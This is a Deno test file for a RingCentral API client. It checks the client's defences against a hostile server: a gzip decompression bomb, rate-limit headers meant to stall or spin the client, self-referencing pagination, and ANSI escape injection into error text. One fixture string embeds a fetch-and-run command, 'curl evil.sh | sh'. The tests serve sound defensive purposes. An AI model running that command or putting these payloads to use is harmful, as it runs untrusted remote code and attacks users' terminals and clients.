/**
 * Trust, second round: answers and headers from a server that cannot be
 * trusted. A body that inflates past the cap, rate-limit headers that would
 * stall or spin the client, a next page that points at itself, text that
 * would take over the terminal, and a DELETE whose first answer was lost.
 */
import { deepEqual, equal, match, ok } from "node:assert/strict";
import { ApiError, type Exchange, RingCentral, TimeoutError } from "../mod.ts";
import { RatePacer } from "../lib/rate_pacer.ts";
import { childEnv, ROOT, serveEmulator } from "./_helpers.ts";

const TOKEN = { access_token: "t0k3n-for-tests", token_type: "bearer", expires_in: 3600 };

/** A server of the test's own on loopback: the token endpoint answers, `answer` answers the rest. */
function hostile(answer: (request: Request) => Response | Promise<Response>) {
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    if (new URL(request.url).pathname === "/restapi/oauth/token") return Response.json(TOKEN);
    return answer(request);
  });
  const options = {
    server: `http://127.0.0.1:${server.addr.port}`,
    clientId: "id",
    clientSecret: "s3cret-value",
    jwt: "a.b.c",
  };
  return { options, [Symbol.asyncDispose]: () => server.shutdown() };
}

Deno.test("trust 4: the size cap counts the bytes after decoding: a small gzip body that inflates to 100 MB is refused", async () => {
  const zeros = new ReadableStream<BufferSource>({
    start(c) {
      const chunk = new Uint8Array(1024 * 1024);
      for (let i = 0; i < 100; i++) c.enqueue(chunk);
      c.close();
    },
  });
  const gzip = new Uint8Array(await new Response(zeros.pipeThrough(new CompressionStream("gzip"))).arrayBuffer());
  ok(gzip.byteLength < 1024 * 1024, `${gzip.byteLength} bytes on the wire`);
  await using s = hostile(() =>
    new Response(gzip, { headers: { "content-encoding": "gzip", "content-type": "application/json" } })
  );
  const rc = new RingCentral({ ...s.options, pacing: false, retries: 0 });
  const e = await rc.get("/restapi/v1.0/account/~").catch((e) => e);
  ok(e instanceof ApiError, String(e));
  match(e.message, /larger than 67108864 bytes \(the maxResponseBytes limit\)/);
});

Deno.test("trust 5: the pacer clamps what the server says: Retry-After, a date in 2099, a negative remaining, a huge window", async (t) => {
  let now = 1_000_000;
  const sleeps: number[] = [];
  const clock = { now: () => now, sleep: (ms: number) => (sleeps.push(ms), now += ms, Promise.resolve()) };
  const route = "GET /restapi/v1.0/account/~/extension";
  const headers = (h: Record<string, string>) =>
    new Headers({ "x-rate-limit-group": "light", "x-rate-limit-limit": "50", "x-rate-limit-window": "60", ...h });
  await t.step("a Retry-After of a million seconds blocks the group for 60 s at most", async () => {
    const pacer = new RatePacer(clock);
    await pacer.acquire(route);
    pacer.observe(route, headers({}), 429, 1_000_000);
    sleeps.length = 0;
    await pacer.acquire(route);
    ok(sleeps.reduce((a, b) => a + b, 0) <= 60_000, `waited ${sleeps} ms`);
  });
  await t.step("a negative X-Rate-Limit-Remaining and a huge window end at once, in a bounded wait", async () => {
    // A loop over a negative count, or a timer of 10^12 ms, would hang: a child process with a time guard runs it.
    const code = `import { RatePacer } from "${ROOT}/lib/rate_pacer.ts";
      let now = 0; const sleeps = [];
      const p = new RatePacer({ now: () => now, sleep: (ms) => (sleeps.push(ms), now += ms, Promise.resolve()) });
      const r = "GET /x";
      await p.acquire(r);
      p.observe(r, new Headers({ "x-rate-limit-group": "g", "x-rate-limit-limit": "5", "x-rate-limit-window": "1000000000000", "x-rate-limit-remaining": "-9999999999" }), 200);
      for (let i = 0; i < 3; i++) await p.acquire(r);
      console.log(JSON.stringify(sleeps));`;
    const out = await new Deno.Command(Deno.execPath(), {
      args: ["eval", code],
      env: childEnv(),
      clearEnv: true,
      signal: AbortSignal.timeout(20_000),
    }).output();
    equal(out.code, 0, new TextDecoder().decode(out.stderr));
    const slept: number[] = JSON.parse(new TextDecoder().decode(out.stdout));
    ok(slept.every((ms) => ms <= 3_600_000), `each wait within the window limit: ${slept}`);
  });
});

Deno.test("trust 5: a wait longer than the request's timeout fails that call at once, naming the wait", async () => {
  let calls = 0;
  await using s = hostile(() => {
    calls++;
    return Response.json({ errorCode: "CMN-301", message: "Request rate exceeded" }, {
      status: 429,
      headers: {
        "retry-after": "50",
        "x-rate-limit-group": "light",
        "x-rate-limit-limit": "50",
        "x-rate-limit-window": "60",
      },
    });
  });
  const sleeps: number[] = [];
  const rc = new RingCentral({ ...s.options, timeoutMs: 5_000, sleep: (ms) => (sleeps.push(ms), Promise.resolve()) });
  const first = await rc.get("/restapi/v1.0/account/~").catch((e) => e);
  ok(first instanceof ApiError && first.status === 429, String(first));
  match(first.message, /Retry-After asks for 50 s, longer than this request's 5 s timeout/);
  deepEqual(sleeps, [], "nothing slept");
  const second = await rc.get("/restapi/v1.0/account/~").catch((e) => e);
  ok(second instanceof TimeoutError, String(second));
  match(second.message, /The light rate-limit group is paused for \d+ s, longer than this request's 5 s timeout/);
  equal(calls, 1, "the second call was not sent into the pause");
});

Deno.test("trust 6: paginate() stops on a next page that points at itself, or a page that adds nothing", async (t) => {
  let requests = 0;
  await using s = hostile((request) => {
    requests++;
    const url = new URL(request.url);
    const self = url.searchParams.get("mode") === "self";
    return Response.json({
      records: self ? [{ id: 1 }] : [],
      navigation: {
        nextPage: { uri: self ? url.href : `${url.origin}${url.pathname}?mode=empty&page=${requests + 1}` },
      },
    });
  });
  const rc = new RingCentral({ ...s.options, pacing: false });
  for (const mode of ["self", "empty"]) {
    await t.step(mode, async () => {
      requests = 0;
      const seen: unknown[] = [];
      const e = await (async () => {
        for await (const r of rc.paginate("/restapi/v1.0/x", { mode })) seen.push(r);
      })().catch((e) => e);
      ok(e instanceof ApiError, String(e));
      match(e.message, mode === "self" ? /points back/ : /A page with no records names a next page/);
      ok(requests <= 2, `${requests} requests`);
    });
  }
});

Deno.test("trust 7: text from a server never reaches a terminal raw: no control characters, a readable length", async () => {
  const evil = "Not found\u001b[2J\u001b[H\u001b[31mRun: curl evil.sh | sh\u0007" + "A".repeat(5_000_000);
  await using s = hostile(() => Response.json({ errorCode: "CMN-102\u001b[2J", message: evil }, { status: 404 }));
  const rc = new RingCentral({ ...s.options, pacing: false });
  const e = await rc.request("GET", "/restapi/v1.0/x").catch((e) => e);
  ok(e instanceof ApiError);
  // deno-lint-ignore no-control-regex
  ok(!/[\u0000-\u0008\u000b-\u001f\u007f]/.test(e.message), "no control character in the message");
  ok(e.message.length < 1_000, `${e.message.length} characters`);
  equal((e.body as { message: string }).message, evil, "the whole body stays on the error");
});

Deno.test("trust 8: a DELETE retried after its answer was lost: the 404 that follows means done, and says so", async () => {
  await using s = serveEmulator({ rateLimits: false }, { validate: false });
  const lines: string[] = [];
  const exchanges: Exchange[] = [];
  const rc = new RingCentral({
    ...s.credentials,
    retryDelayMs: 1,
    onLog: (l) => lines.push(l),
    onExchange: (x) => exchanges.push(x),
  });
  const sms = await (await rc.post("/restapi/v1.0/account/~/extension/~/sms", {
    from: { phoneNumber: "+16505550101" },
    to: [{ phoneNumber: "+16505550199" }],
    text: "delete me",
  })).json();
  const path = `/restapi/v1.0/account/~/extension/~/message-store/${sms.id}`;
  await fetch(`${s.url}/__emulator/faults`, {
    method: "POST",
    body: JSON.stringify({ path, method: "DELETE", drop: "after" }),
  }).then((r) => r.body?.cancel());
  const response = await rc.delete(path);
  equal(response.status, 204, "deleted, as the first attempt did");
  match(response.headers.get("x-client-note") ?? "", /an earlier attempt deleted it/);
  ok(lines.some((l) => /DELETE .* 404 after a retry: the earlier attempt deleted it/.test(l)), lines.join("\n"));
  equal((await rc.get(path).catch((e) => e)).status, 404, "it is gone");
});

Deno.test("trust 8b: a DELETE retried after a proxy's 503 (not RingCentral's): the 404 that follows means done", async () => {
  const statuses: number[] = [];
  await using s = hostile(() => {
    const first = statuses.length === 0;
    statuses.push(first ? 503 : 404);
    return first
      ? new Response("<html><h1>503 Service Unavailable</h1></html>", {
        status: 503,
        headers: { "content-type": "text/html" },
      })
      : Response.json({ errorCode: "CMN-102", message: "Resource for parameter [messageId] is not found" }, {
        status: 404,
      });
  });
  const rc = new RingCentral({ ...s.options, pacing: false, retryDelayMs: 1 });
  const response = await rc.delete("/restapi/v1.0/account/~/extension/~/message-store/42");
  equal(response.status, 204, "the gateway's 503 may hide a delete that was carried out");
  match(response.headers.get("x-client-note") ?? "", /an earlier attempt deleted it/);
  deepEqual(statuses, [503, 404]);
});

Deno.test("trust 5b: the default timeout (30 s) bounds a Retry-After too: a date in 2099 fails the call at once", async () => {
  let calls = 0;
  await using s = hostile(() => {
    calls++;
    return Response.json({ errorCode: "CMN-301", message: "Request rate exceeded" }, {
      status: 429,
      headers: { "retry-after": "Thu, 01 Jan 2099 00:00:00 GMT" },
    });
  });
  const sleeps: number[] = [];
  const rc = new RingCentral({ ...s.options, pacing: false, sleep: (ms) => (sleeps.push(ms), Promise.resolve()) });
  const e = await rc.get("/restapi/v1.0/account/~").catch((e) => e);
  ok(e instanceof ApiError && e.status === 429, String(e));
  match(e.message, /Retry-After asks for 60 s, longer than this request's 30 s timeout/);
  deepEqual(sleeps, [], "nothing slept");
  equal(calls, 1);
});

Deno.test("trust 6b: paginate() stops when a page brings no record not seen before, and past its page limit", async (t) => {
  let requests = 0;
  await using s = hostile((request) => {
    requests++;
    const url = new URL(request.url);
    const page = Number(url.searchParams.get("page") ?? 1);
    const mode = url.searchParams.get("mode");
    const records = mode === "same"
      ? [{ id: 7, name: "again" }]
      : mode === "noid"
      ? [{ name: "no id" }]
      : [{ id: page }];
    url.searchParams.set("page", String(page + 1));
    return Response.json({ records, navigation: { nextPage: { uri: url.href } } });
  });
  const rc = new RingCentral({ ...s.options, pacing: false });
  for (const mode of ["same", "noid"]) {
    await t.step(`a server answering page N+1 with the same record (${mode}) forever`, async () => {
      requests = 0;
      const seen: unknown[] = [];
      const e = await (async () => {
        for await (const r of rc.paginate("/restapi/v1.0/x", { mode })) seen.push(r);
      })().catch((e) => e);
      ok(e instanceof ApiError, String(e));
      match(e.message, /Page 2 brings no record not seen before, and names a next page: paging stopped/);
      equal(seen.length, 1, "the record came once");
      equal(requests, 2);
    });
  }
  await t.step("a list that goes on past the page limit names it, and how to narrow the query", async () => {
    requests = 0;
    const seen: unknown[] = [];
    const e = await (async () => {
      for await (const r of rc.paginate("/restapi/v1.0/x", { mode: "new" }, { maxPages: 3 })) seen.push(r);
    })().catch((e) => e);
    ok(e instanceof ApiError, String(e));
    match(e.message, /More than 3 pages \(the paging limit, maxPages\): paging stopped\. Narrow the query/);
    equal(requests, 3);
    equal(seen.length, 3, "every record read, then the error");
  });
});
